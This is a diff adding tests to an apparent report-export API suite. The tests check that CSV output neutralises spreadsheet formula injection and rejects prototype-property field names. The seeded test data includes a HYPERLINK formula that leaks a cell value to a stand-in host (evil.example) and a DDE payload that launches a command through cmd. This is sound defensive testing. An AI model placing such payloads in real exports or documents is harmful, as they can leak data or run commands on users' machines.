@@ -185,6 +185,59 @@ describe('POST /api/v1/reports/generate', () => {
     expect(parseCsv(file.text).length).toBe(expected!.n + 1);
   });
 
+  it('writes text a spreadsheet would run as a formula with a leading quote, and numbers as they are', async () => {
+    const hostile = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', '+SUM(1,2)', '@SUM(1,2)', '-1+1'];
+    const db = service.databases.sandbox;
+    const owner = await db.prisma.owner.create({
+      data: {
+        name: "=cmd|' /C calc'!A0",
+        ownerType: 'individual',
+        mailingAddress: '\t=1+1',
+        mailingCity: 'Formula Falls',
+        mailingState: 'NV',
+        mailingZip: '89001',
+        phone: '+1 555 0100',
+        email: 'owner@example.com',
+        propertiesCount: hostile.length,
+        portfolioValue: 1,
+        absentee: false,
+      },
+    });
+    for (const [i, address] of hostile.entries()) {
+      await db.prisma.property.create({
+        data: {
+          address,
+          city: 'Formula Falls',
+          state: 'NV',
+          zip: '89001',
+          county: '\r=1+1',
+          propertyType: 'condo',
+          bedrooms: -5,
+          estimatedValue: 100_000,
+          mortgageBalance: 101_500 + i,
+          equityPct: -1.5,
+          ownerId: owner.id,
+          absenteeOwner: false,
+        },
+      });
+    }
+    const response = await generate({
+      vertical: 'realestate',
+      filters: { city: 'Formula Falls' },
+      fields: ['address', 'county', 'bedrooms', 'equity_pct', 'owner_name'],
+    });
+    expect(response.status, response.text).toBe(202);
+    await waitForReport(response.body.data.id, (job) => job.status === 'completed');
+    const file = await service.get(`/api/v1/reports/${response.body.data.id}/download`, key);
+    const [header, ...rows] = parseCsv(file.text);
+    expect(header).toEqual(['address', 'county', 'bedrooms', 'equity_pct', 'owner_name']);
+    expect(rows.map((row) => row[0])).toEqual(hostile.map((name) => `'${name}`));
+    for (const row of rows) expect(row.slice(1)).toEqual(["'\r=1+1", '-5', '-1.5', "'=cmd|' /C calc'!A0"]);
+    // Only the file's cells change: the records keep their names as given.
+    const list = await service.get('/api/v1/realestate/properties?city=Formula%20Falls&sort=id', key);
+    expect(list.body.data.map((record: { address: string }) => record.address)).toEqual(hostile);
+  });
+
   it.each([
     [{ filters: { min_equity: 50 } }, 'vertical'],
     [{ vertical: 'space' }, 'vertical'],
@@ -197,6 +250,8 @@ describe('POST /api/v1/reports/generate', () => {
     [{ vertical: 'realestate', filters: 'CA' }, 'filters'],
     [{ vertical: 'legal', filters: { bar_status: 'disbarred' } }, 'filters.bar_status'],
     [{ vertical: 'realestate', fields: ['address', 'password'] }, 'fields'],
+    [{ vertical: 'realestate', fields: ['address', 'constructor'] }, 'fields'],
+    [{ vertical: 'realestate', fields: ['address', 'toString'] }, 'fields'],
     [{ vertical: 'realestate', fields: 'address' }, 'fields'],
     [{ vertical: 'realestate', colour: 'blue' }, 'colour'],
   ])('rejects %j with a 400 naming %s', async (body, parameter) => {
